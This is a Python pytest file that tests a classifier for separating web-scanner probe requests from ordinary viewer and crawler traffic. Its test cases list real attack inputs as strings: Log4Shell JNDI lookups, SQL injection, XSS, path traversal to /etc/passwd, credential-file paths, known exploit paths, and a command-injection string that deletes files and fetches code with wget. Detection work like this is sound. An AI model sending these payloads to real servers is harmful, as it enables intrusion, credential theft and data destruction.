import pytest

from loadtests.collect.edge.probes import is_probe, is_sought


@pytest.mark.parametrize(
    "target",
    [
        "/.env",
        "/shop/.git/config",
        "/.aws/credentials",
        "/backup.sql",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/cgi-bin/luci/;stok=/locale",
        "/?q=${jndi:ldap://x}",
        "/item?id=1%27%20OR%201=1",
        "/item?id=1+UNION+SELECT+1",
        "/view?file=../../../../etc/passwd",
        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/phpmyadmin/index.php",
        "/boaform/admin/formLogin",
        "/HNAP1",
        "/actuator/env",
        "/solr/admin/info/system",
        "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
        "/shell?cd+/tmp;rm+-rf+*;wget+http://x/y",
        "/?x=${${lower:j}ndi:ldap://x}",
        "/products?id=4%20AND%201=1",
        "/products?id=4%20AND%204711%3D815--",
        "/item?id=1;WAITFOR+DELAY+'0:0:5'",
        "/page?f=php://filter/convert.base64-encode/resource=index",
        "/remote/fgt_lang?lang=/../../../..//dev/cmdb/sslvpn_websession",
        "/uploads/alfanew.php",
        "/%253Cscript%253Ealert(1)",
    ],
)
def test_what_only_scanners_ask_for_is_a_probe(target: str) -> None:
    assert is_probe(target)


@pytest.mark.parametrize(
    "target",
    [
        "/",
        "/wp-login.php",
        "/xmlrpc.php",
        "/login?next=/account/settings",
        "/live/playlist.m3u8?token=abc.def-ghi",
        "/live/video-4.m4s",
        "/search?q=union+berlin+select+seats",
        "/.well-known/security.txt",
        "/blog/how-to-write-a-config.php-file",
        "/images/environment.png",
        "/robots.txt",
        "/favicon.ico",
        "/old/news.html",
        "/scripts/main.js?v=1.0",
        "/cart?item=4&or=1",
        "/blog/tags/shell?page=1",
        "/products?sort=price&order=by+name",
        "/api.js?onload=ready&render=explicit",
        "/search?q=fish+and+chips",
        "/data:image/svg+xml,%3Csvg%20xmlns",
    ],
)
def test_what_a_viewer_or_a_crawler_asks_for_is_none(target: str) -> None:
    assert not is_probe(target)


@pytest.mark.parametrize(
    "target",
    [
        "/wp-login.php?action=register",
        "/blog/xmlrpc.php",
        "/wp-admin/",
        "/wp-content/plugins/revslider/temp/update_extract/revslider/db.php",
        "/administrator/index.php",
        "/news/fckeditor/editor/filemanager/connectors/test.html",
        "/cgi-bin/env.cgi",
        "/vendor/composer/installed.php",
        "/backup.zip",
        "/server-status",
    ],
)
def test_what_scanners_ask_for_on_every_site_is_sought(target: str) -> None:
    assert is_sought(target)


@pytest.mark.parametrize(
    "target",
    [
        "/",
        "/wp-content/uploads/2015/03/match.jpg",
        "/wp-content/themes/club/style.css?ver=4",
        "/vendor/jquery/jquery.min.js",
        "/blog/tags/wordpress",
        "/ckeditor/skins/kama/icons.png",
        "/files/tool-1.2.tar.gz",
        "/login",
        "/account/config.json",
    ],
)
def test_a_dead_link_of_an_ordinary_site_is_not(target: str) -> None:
    assert not is_sought(target)
